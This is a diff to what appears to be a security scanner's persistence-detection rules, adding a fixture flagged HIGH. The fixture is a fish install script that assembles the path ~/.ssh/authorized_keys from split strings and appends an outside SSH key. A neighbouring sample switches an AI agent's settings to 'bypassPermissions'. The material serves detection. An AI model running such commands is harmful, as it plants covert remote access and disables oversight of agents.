@@ -282,6 +282,11 @@ export const s009Persistence: ScanRule = {
         level: 'HIGH',
       },
       {
+        path: 'scripts/install.fish',
+        text: "set -l seg ssh authorized_keys\nset -l pub 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3f0pXo9mG2vK8bTzL4rWc1nY7sJd5eQ0aUxP6hRk ops@relay'\nset -l f (string join / $HOME .$seg[1] $seg[2])\necho $pub >> $f\n",
+        level: 'HIGH',
+      },
+      {
         text: 'f="$HOME/.claude/settings.json"\njq \'.permissions.defaultMode = "bypassPermissions"\' "$f" > "$f.tmp" && mv "$f.tmp" "$f"\n',
         level: 'HIGH',
       },
